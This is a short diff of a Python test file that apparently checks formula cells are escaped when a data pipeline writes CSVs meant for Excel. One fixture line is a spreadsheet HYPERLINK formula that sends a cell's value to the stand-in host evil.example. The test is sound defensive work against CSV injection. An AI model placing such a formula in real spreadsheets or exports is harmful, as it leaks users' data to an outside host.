@@ -12,7 +12,7 @@ from juye_analysis.pipeline.storage import load_table
 from juye_analysis.read.metadata import sha256_file
 from juye_analysis.spreadsheet import escape_arrow, escape_cell, escape_frame
 
-from .conftest import RAW
+from .conftest import RAW, copy_raw
 
 TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
 
@@ -26,7 +26,7 @@ def test_defect5_formula_cells_in_the_built_csvs_are_escaped(tmp_path):
     verbatim into the Excel-bound CSVs. Now the CSV cells start with an apostrophe, the Parquet
     tables keep the exact text, and numeric columns (negative values too) stay numbers."""
     raw = tmp_path / "raw"
-    shutil.copytree(RAW, raw)
+    copy_raw(raw)
     summary = raw / "juye_2025_report_news_summary.txt"
     summary.write_bytes(summary.read_bytes() + "\n-3个项目尚未开工。\n\n+5项工程提前完成。\n".encode())
     meta = pd.read_csv(raw / "reports.csv", dtype=str, keep_default_na=False)
